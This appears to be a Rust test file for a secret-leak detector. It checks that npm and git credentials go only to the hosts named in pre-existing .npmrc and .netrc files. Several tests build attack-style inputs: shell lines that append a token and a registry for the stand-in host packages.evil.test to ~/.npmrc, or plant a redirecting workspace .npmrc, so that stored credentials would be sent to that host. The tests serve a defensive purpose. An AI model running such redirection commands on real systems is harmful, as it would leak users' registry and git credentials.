//! Self-kept destinations: a credential file that stood there before the job says where its secret is spent, and what the job
//! writes into one says nothing.

use detector::engine::{Finding, Verdict};
use detector_tests::{
    name_server::{NameServer, Zone},
    namespace::{OTHER_V4, SINK_V4},
    resolver::Resolver,
    scene::{PORT, Scene},
    watched::Watched,
};

type Result = anyhow::Result<()>;

const BUILTIN: &str = "version: 1\nextends: builtin\n";

/// As the home's own `.npmrc` has it.
const OWN: &str = "packages.example";
const EVIL: &str = "packages.evil.test";
/// As its `.netrc` has it; other files name it for another port.
const MACHINE: &str = "forge.example";

fn run(scene: &Scene, script: &str) -> anyhow::Result<Watched> {
    let zone = Zone::new().a(OWN, [SINK_V4]).a(MACHINE, [SINK_V4]).a(EVIL, [OTHER_V4]);
    let _server = NameServer::start(&scene.network.sink, zone)?;
    let job = scene.job(["bash", "-c", script]).policy(BUILTIN).mode("enforce");
    Watched::run(scene, &job.resolver(Resolver::default()))
}

fn leaks(run: &Watched) -> Vec<&Finding> {
    run.conclusion.findings.iter().filter(|finding| finding.rule.starts_with("leak")).collect()
}

/// npm reads its token, and asks this registry for a package.
fn npm(host: &str) -> String {
    format!("npm view --fetch-retries=0 --registry=http://{host}:{PORT}/ some-package > /dev/null 2>&1; true")
}

#[test]
fn a_reader_spends_where_its_file_says() -> Result {
    let scene = Scene::new()?;
    let run = run(&scene, &npm(OWN))?;
    assert!(leaks(&run).is_empty(), "{:#?}", run.conclusion.findings);
    assert_ne!(run.conclusion.verdict, Verdict::Fail);
    assert!(String::from_utf8_lossy(&scene.sink.bytes()).contains("GET /some-package"), "npm did not arrive");
    let documented = run.recording.header.policy.document.destinations.iter();
    assert!(documented.flat_map(|row| &row.to).any(|to| to == OWN), "the recording does not say it");
    Ok(())
}

#[test]
fn a_reader_spends_nowhere_else() -> Result {
    let scene = Scene::new()?;
    let run = run(&scene, &npm(EVIL))?;
    assert!(
        leaks(&run).iter().any(|leak| leak.rule == "leak" && leak.secret == ["npm"]),
        "{:#?}",
        run.conclusion.findings
    );
    assert!(scene.sink.bytes().is_empty());
    Ok(())
}

/// What the job writes into the file changes where npm goes, and not where it may.
#[test]
fn what_the_job_writes_is_not_believed() -> Result {
    let scene = Scene::new()?;
    let edit = format!("printf '//{EVIL}/:_authToken=x\\nregistry=http://{EVIL}:{PORT}/\\n' >> ~/.npmrc; ");
    let run = run(&scene, &(edit + &npm(EVIL)))?;
    assert!(leaks(&run).iter().any(|leak| leak.rule == "leak"), "{:#?}", run.conclusion.findings);
    assert!(scene.sink.bytes().is_empty());
    Ok(())
}

/// Nor is what a change of the repository brought into the workspace.
#[test]
fn files_of_the_workspace_are_not_believed() -> Result {
    let scene = Scene::new()?;
    std::fs::write(scene.home.workspace().join(".npmrc"), format!("registry=http://{EVIL}:{PORT}/\n"))?;
    let run = run(&scene, &npm(EVIL))?;
    assert!(leaks(&run).iter().any(|leak| leak.rule == "leak"), "{:#?}", run.conclusion.findings);
    assert!(scene.sink.bytes().is_empty());
    Ok(())
}

/// git opens the `.git/config` of a repository that the job made, as a clone does, and asks its remote at this host.
fn git(host: &str) -> String {
    format!(
        "git init -q app && cd app && git remote add origin http://{host}:{PORT}/app && git ls-remote -q origin; true"
    )
}

#[test]
fn git_goes_where_netrc_logs_in() -> Result {
    let scene = Scene::new()?;
    let run = run(&scene, &git(MACHINE))?;
    assert!(leaks(&run).is_empty(), "{:#?}", run.conclusion.findings);
    assert!(String::from_utf8_lossy(&scene.sink.bytes()).contains("GET /app/info/refs"), "git did not arrive");
    Ok(())
}

#[test]
fn git_goes_nowhere_else() -> Result {
    let scene = Scene::new()?;
    let run = run(&scene, &git(EVIL))?;
    let is_gits = |leak: &&Finding| leak.rule == "leak" && leak.secret.iter().any(|class| class == "git");
    assert!(leaks(&run).iter().any(is_gits), "{:#?}", run.conclusion.findings);
    assert!(scene.sink.bytes().is_empty());
    Ok(())
}
